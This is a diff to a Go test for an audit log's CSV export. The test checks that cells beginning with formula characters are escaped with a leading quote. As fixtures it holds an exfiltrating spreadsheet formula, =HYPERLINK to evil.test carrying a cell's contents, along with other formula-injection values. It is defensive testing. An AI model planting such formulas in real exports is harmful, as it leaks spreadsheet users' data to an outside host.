@@ -298,14 +298,14 @@ func TestExportStreamsAndIsAudited(t *testing.T) {
 	// Lines keeps it exact.
 	formula := `=HYPERLINK("http://evil.test/?"&A2,"open")`
 	if err := audit.AppendAlone(ctx, pool, audit.Entry{Actor: audit.Actor{Kind: audit.ActorAnonymous, Name: formula}, Action: "user.login_failed",
-		TargetType: "user", TargetName: "@SUM(1+1)", Result: audit.ResultFailure}); err != nil {
+		TargetType: "user", TargetName: "@SUM(1+1)", TargetID: "'=1+1", Result: audit.ResultFailure}); err != nil {
 		t.Fatal(err)
 	}
 	buf.Reset()
 	if err := l.Export(ctx, auditor, audit.Filter{Action: "user.login_failed"}, audit.FormatCSV, &buf); err != nil {
 		t.Fatal(err)
 	}
-	if recs, err := csv.NewReader(&buf).ReadAll(); err != nil || len(recs) != 2 || recs[1][4] != "'"+formula || recs[1][9] != "'@SUM(1+1)" {
+	if recs, err := csv.NewReader(&buf).ReadAll(); err != nil || len(recs) != 2 || recs[1][4] != "'"+formula || recs[1][9] != "'@SUM(1+1)" || recs[1][8] != "''=1+1" {
 		t.Fatalf("csv of a formula: %q, %v", recs, err)
 	}
 	buf.Reset()
